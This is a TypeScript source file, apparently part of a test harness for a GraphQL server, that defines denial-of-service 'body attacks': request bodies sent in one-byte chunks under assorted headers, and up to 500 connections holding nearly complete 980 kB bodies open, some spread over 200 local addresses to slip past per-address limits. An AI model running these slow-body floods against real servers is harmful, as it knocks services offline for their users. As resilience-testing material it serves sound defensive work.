import { once } from 'node:events'
import type { Attack, AttackRun } from './attack.ts'
import { clients } from './clients.ts'
import { ANOTHER_ADDRESS, open, pause, post } from './wire.ts'

const MEGABYTE = 1_000_000
const LONG = JSON.stringify({ query: `{ ${'a'.repeat(MEGABYTE)} }` })
/** One of 200 addresses that nobody else has. */
const addressOf = (client: number): string => `127.0.1.${(client % 200) + 1}`

const chunkOf = (text: string, extension = ''): string =>
  `${text.length.toString(16)}${extension}\r\n${text}\r\n`

/** A body in chunks of one byte. */
function shredded(body: string, head: string, extension = ''): Buffer {
  return Buffer.from(`${head}\r\n${[...body].map((byte) => chunkOf(byte, extension)).join('')}0\r\n\r\n`)
}

const HEAD = 'POST /graphql HTTP/1.1\r\nHost: x\r\nx-graphql-csrf: 1\r\nTransfer-Encoding: chunked\r\n'
const JSON_HEAD = `${HEAD}Content-Type: application/json\r\n`
const FORM_HEAD = `${HEAD}Content-Type: multipart/form-data; boundary=b\r\n`
const FORM = `--b\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${LONG}\r\n--b--\r\n`

/** Sends a request again and again on new connections, until each is answered or closed. */
export function send(
  count: number,
  run: AttackRun,
  bytesOf: (client: number) => string | Buffer,
): Promise<void> {
  return clients(count, run, async (client) => {
    const socket = await open(run.target, run.signal, ANOTHER_ADDRESS)
    const over = Promise.race([once(socket, 'end'), once(socket, 'close')]).catch(() => {})
    socket.resume().write(bytesOf(client))
    if (!socket.destroyed) await over
    socket.destroy()
    await pause(100, run.signal)
  })
}

/** Sends most of a body, and keeps the connection for as long as it is let. */
function keep(count: number, run: AttackRun, localAddress: (client: number) => string): Promise<void> {
  const part = post(LONG).slice(0, 980_000)
  return clients(count, run, async (client) => {
    await pause(2 * client, run.signal)
    const socket = await open(run.target, run.signal, localAddress(client))
    socket.resume().write(part)
    while (!socket.destroyed && !run.signal.aborted) await pause(100, run.signal)
    await pause(5_000, run.signal)
  })
}

/** What clients do with the bodies of their requests. */
export const bodyAttacks: readonly Attack[] = [
  {
    name: '10 connections send bodies in one-byte chunks',
    run(run) {
      const bytes = [
        shredded(LONG, JSON_HEAD),
        shredded(LONG, JSON_HEAD, ';a=b'),
        shredded(FORM, FORM_HEAD),
        shredded(LONG, JSON_HEAD.replace('application/json', 'application/graphql')),
        shredded(LONG, JSON_HEAD.replace('/graphql', '/nowhere')),
        shredded(LONG, `${JSON_HEAD}Expect: nothing\r\n`),
        shredded(LONG, `${JSON_HEAD}Content-Encoding: gzip\r\n`),
        shredded(LONG, JSON_HEAD.replace('POST', 'GET')),
      ]
      return send(10, run, (client) => bytes[client % bytes.length] ?? '')
    },
  },
  {
    name: '500 connections hold 980 kB of an unfinished body',
    run: (run) => keep(500, run, () => ANOTHER_ADDRESS),
  },
  {
    name: '500 connections of 200 addresses hold 980 kB of an unfinished body',
    run: (run) => keep(500, run, addressOf),
  },
]
